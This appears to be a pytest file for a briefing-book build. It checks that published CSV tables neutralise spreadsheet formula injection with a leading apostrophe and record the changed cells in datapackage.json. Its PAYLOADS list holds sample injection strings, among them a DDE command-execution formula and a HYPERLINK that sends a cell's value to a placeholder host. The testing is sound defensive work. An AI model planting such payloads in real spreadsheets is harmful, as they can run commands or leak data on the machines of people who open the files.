"""The published data tables: no cell a spreadsheet would run as a formula, and datapackage.json says
which cells were changed.

The prefixes are OWASP's list for CSV injection, written out here (not read from the code): a cell
that starts with = + - @, a tab or a carriage return is published with a leading apostrophe. Every
other cell, and every file without such a cell, is published exactly as written.
"""

from __future__ import annotations

import csv
import io
import json
import shutil
from pathlib import Path
from types import SimpleNamespace

import pytest

from briefing.corpus import Corpus
from briefing.evidence import Registry
from briefing.sphinx import downloads
from briefing.sphinx.downloads import neutralise, write_neutralised_csv
from helpers import ROOT, make_project

OWASP_PREFIXES = ["=", "+", "-", "@", "\t", "\r"]
PAYLOADS = ['=HYPERLINK("http://example.invalid/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)",
            "\t=1+1", "\r=1+1"]


def _formula_like(cell: str) -> bool:
    return cell[:1] in OWASP_PREFIXES and cell != ""


@pytest.mark.parametrize("prefix", OWASP_PREFIXES)
def test_every_formula_prefix_is_neutralised(prefix: str) -> None:
    for rest in ("", "1+1", 'HYPERLINK("x")', "عين الأسد", "\n2", prefix):
        cell = prefix + rest
        assert neutralise(cell) == "'" + cell, repr(cell)
        assert neutralise(neutralise(cell)) == neutralise(cell)  # once is enough: "'" starts no formula


@pytest.mark.parametrize("cell", ["", "'=1", "a=b", "2,500", "عين الأسد", " x", "1-2", "(=)", "#1", "%", "٫5",
                                  "x\n=1", "\ufeff"])
def test_other_cells_are_published_as_written(cell: str) -> None:
    assert not _formula_like(cell)
    assert neutralise(cell) == cell


def _read(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.reader(fh))


def _write(path: Path, rows: list[list[str]]) -> None:
    """``rows`` as CSV; RFC 4180 line ends, so that a carriage return inside a cell is quoted."""
    with path.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh, lineterminator="\r\n").writerows(rows)


def _expected_cells(rows: list[list[str]]) -> list[dict]:
    return [{"row": i + 1, "column": rows[0][j]} for i, row in enumerate(rows) for j, cell in enumerate(row)
            if _formula_like(cell)]


def test_a_table_with_every_prefix_in_any_row_and_column(tmp_path: Path) -> None:
    rows = [["id", "label", "note"]]
    for k, payload in enumerate(PAYLOADS):
        rows.append([f"r{k}", payload, "plain, with \"quotes\"\nand a line break"])
        rows.append([payload, f"label {k}", payload + " again"])
    source, target = tmp_path / "t.csv", tmp_path / "out.csv"
    _write(source, rows)
    header, changed = write_neutralised_csv(source, target)
    assert header == rows[0]
    assert changed == _expected_cells(rows)
    assert len(changed) == 3 * len(PAYLOADS)
    published = _read(target)
    assert len(published) == len(rows)
    for row, out in zip(rows, published):
        assert out == [("'" + c if _formula_like(c) else c) for c in row]
    assert not any(_formula_like(c) for row in published for c in row)


def test_a_formula_in_the_header_counts_as_row_one(tmp_path: Path) -> None:
    source, target = tmp_path / "t.csv", tmp_path / "out.csv"
    _write(source, [["=id", "label"], ["a", "b"]])
    assert write_neutralised_csv(source, target) == (["=id", "label"], [{"row": 1, "column": "=id"}])
    assert _read(target)[0] == ["'=id", "label"]


def test_a_table_without_formula_cells_is_published_byte_for_byte(tmp_path: Path) -> None:
    source, target = tmp_path / "t.csv", tmp_path / "out.csv"
    source.write_bytes("id,label\r\nx,\"a, b\"\r\ny,عين الأسد\r\n".encode())  # CRLF and quoting kept as they are
    assert write_neutralised_csv(source, target) == (["id", "label"], [])
    assert target.read_bytes() == source.read_bytes()


def test_every_real_table_is_published_without_formula_cells(tmp_path: Path) -> None:
    for path in sorted((ROOT / "data").glob("*.csv")):
        rows = _read(path)
        target = tmp_path / path.name
        header, changed = write_neutralised_csv(path, target)
        assert header == rows[0] and changed == _expected_cells(rows), path.name
        published = _read(target)
        assert published == [[("'" + c if _formula_like(c) else c) for c in row] for row in rows], path.name
        if not changed:
            assert target.read_bytes() == path.read_bytes(), path.name


# --- the downloads as the HTML build writes them: the CSVs and datapackage.json -----------------

@pytest.fixture
def published(tmp_path: Path, monkeypatch) -> tuple[Path, Path]:
    """A project whose events and positions tables carry every payload, and the data folder that the
    build's write_data step writes for it."""
    root = make_project(tmp_path / "project")
    for name in ("events", "positions"):
        rows = _read(ROOT / "data" / f"{name}.csv")
        for k, payload in enumerate(PAYLOADS):
            row = rows[1 + k % (len(rows) - 1)]
            row[(k + 1) % len(row)] = payload
        _write(root / "data" / f"{name}.csv", rows)
    shutil.copyfile(ROOT / "data" / "risks.csv", root / "data" / "risks.csv")  # as it is
    registry = Registry.load(Corpus.load(root))
    monkeypatch.setattr(downloads, "_registry", lambda app: registry)
    out = tmp_path / "html"
    out.mkdir()
    downloads.write_data(SimpleNamespace(builder=SimpleNamespace(format="html"), outdir=str(out)), None)
    return root, out / "data"


def test_datapackage_lists_each_neutralised_cell_and_the_csvs_are_safe(published) -> None:
    root, out = published
    package = json.loads((out / "datapackage.json").read_text(encoding="utf-8"))
    resources = {r["name"]: r for r in package["resources"] if r["format"] == "csv"}
    assert set(resources) == {p.stem for p in (root / "data").glob("*.csv")}
    for name, resource in resources.items():
        rows = _read(root / "data" / f"{name}.csv")
        assert resource["neutralisedCells"] == _expected_cells(rows), name
        assert [f["name"] for f in resource["schema"]["fields"]] == rows[0]
        published_rows = _read(out / resource["path"])
        assert not any(_formula_like(c) for row in published_rows for c in row), name
        assert published_rows == [[("'" + c if _formula_like(c) else c) for c in row] for row in rows]
        assert "apostrophe" in resource["description"]
    assert len(resources["events"]["neutralisedCells"]) >= len(PAYLOADS)
    assert len(resources["positions"]["neutralisedCells"]) >= len(PAYLOADS)
    assert resources["risks"]["neutralisedCells"] == []
    assert (out / "risks.csv").read_bytes() == (root / "data" / "risks.csv").read_bytes()


def test_the_built_book_publishes_what_its_data_says() -> None:
    """The downloads of the built HTML book (make html) match the data files."""
    from conftest import BUILT_HTML

    package_file = BUILT_HTML / "data" / "datapackage.json"
    if not package_file.exists():
        pytest.fail(f"the HTML book is not built in {BUILT_HTML}: run `make html` first (or set BRIEFING_BUILD)")
    package = json.loads(package_file.read_text(encoding="utf-8"))
    csvs = [r for r in package["resources"] if r["format"] == "csv"]
    assert {r["path"] for r in csvs} == {p.name for p in (ROOT / "data").glob("*.csv")}
    for resource in csvs:
        rows = _read(ROOT / "data" / resource["path"])
        assert resource["neutralisedCells"] == _expected_cells(rows), resource["path"]
        text = (BUILT_HTML / "data" / resource["path"]).read_text(encoding="utf-8")
        assert list(csv.reader(io.StringIO(text, newline=""))) == \
            [[("'" + c if _formula_like(c) else c) for c in row] for row in rows], resource["path"]


def test_a_row_longer_than_the_header_names_the_column_by_its_index(tmp_path: Path) -> None:
    source, target = tmp_path / "t.csv", tmp_path / "out.csv"
    _write(source, [["id", "label"], ["a", "b", "=extra", "@more"]])
    assert write_neutralised_csv(source, target) == (["id", "label"], [{"row": 2, "column": 2}, {"row": 2, "column": 3}])
    assert _read(target)[1] == ["a", "b", "'=extra", "'@more"]


def test_an_empty_table_is_published_empty(tmp_path: Path) -> None:
    source, target = tmp_path / "t.csv", tmp_path / "out.csv"
    source.write_bytes(b"")
    assert write_neutralised_csv(source, target) == ([], [])
    assert target.read_bytes() == b""


def _write_data(root: Path, out: Path, monkeypatch, fmt: str = "html", exception: Exception | None = None) -> Registry:
    registry = Registry.load(Corpus.load(root))
    app = SimpleNamespace(builder=SimpleNamespace(format=fmt), outdir=str(out))
    monkeypatch.setattr(downloads, "_registry", lambda given: registry if given is app else None)
    downloads.write_data(app, exception)
    return registry


def test_every_download_is_written_in_full(tmp_path: Path, monkeypatch) -> None:
    """evidence.json, sources.json, the source files, annotations.jsonld and datapackage.json: their exact
    content (readable JSON, Arabic as text), also when the build writes them a second time."""
    from briefing.cite import annotations

    root = make_project(tmp_path / "project")
    shutil.copyfile(ROOT / "data" / "risks.csv", root / "data" / "risks.csv")
    out = tmp_path / "html"
    out.mkdir()
    _write_data(root, out, monkeypatch)
    registry = _write_data(root, out, monkeypatch)  # again, over the first run's files
    data = out / "data"

    def dumped(value: object) -> str:
        return json.dumps(value, ensure_ascii=False, indent=1)

    evidence = [{"id": ev.id, "source": ev.source, "quote": ev.quote, "translation": ev.translation, "note": ev.note,
                 "speaker": ev.speaker, **registry.match(ev.id).as_dict()} for ev in registry]
    assert (data / "evidence.json").read_text(encoding="utf-8") == dumped(evidence)
    assert "ستستكمل بمرحلتها" in (data / "evidence.json").read_text(encoding="utf-8")  # Arabic as text, not \\u escapes
    sources = [s.as_dict() | {"file": f"sources/{s.path.name}"} for s in registry.corpus]
    assert (data / "sources.json").read_text(encoding="utf-8") == dumped(sources)
    for s in registry.corpus:
        assert (data / "sources" / s.path.name).read_bytes() == s.path.read_bytes()
    assert (data / "annotations.jsonld").read_text(encoding="utf-8") == dumped(annotations(registry, base="../"))
    assert '"../' in (data / "annotations.jsonld").read_text(encoding="utf-8")
    package = json.loads((data / "datapackage.json").read_text(encoding="utf-8"))
    assert (data / "datapackage.json").read_text(encoding="utf-8") == json.dumps(package, indent=1)
    assert (package["name"], package["licenses"]) == ("iraq-coalition-briefing", [])
    assert package["title"] == "Data behind the Iraq coalition briefing book"
    [risks, *others] = package["resources"]
    assert risks == {"name": "risks", "path": "risks.csv", "format": "csv", "mediatype": "text/csv", "encoding": "utf-8",
                     "schema": {"fields": [{"name": h, "type": "string"} for h in _read(root / "data" / "risks.csv")[0]]},
                     "description": downloads.FORMULA_NOTE, "neutralisedCells": []}
    assert others == [
        {"name": "evidence", "path": "evidence.json", "format": "json", "mediatype": "application/json"},
        {"name": "sources", "path": "sources.json", "format": "json", "mediatype": "application/json"},
        {"name": "annotations", "path": "annotations.jsonld", "format": "jsonld", "mediatype": "application/ld+json",
         "description": "Every citation as a W3C Web Annotation"}]
    for resource in package["resources"]:
        assert (data / resource["path"]).is_file()


@pytest.mark.parametrize(("fmt", "exception"), [("latex", None), ("html", RuntimeError("the build failed"))])
def test_nothing_is_written_for_another_builder_or_a_failed_build(tmp_path: Path, monkeypatch, fmt, exception) -> None:
    root = make_project(tmp_path / "project")
    out = tmp_path / "out"
    out.mkdir()
    _write_data(root, out, monkeypatch, fmt, exception)
    assert list(out.iterdir()) == []
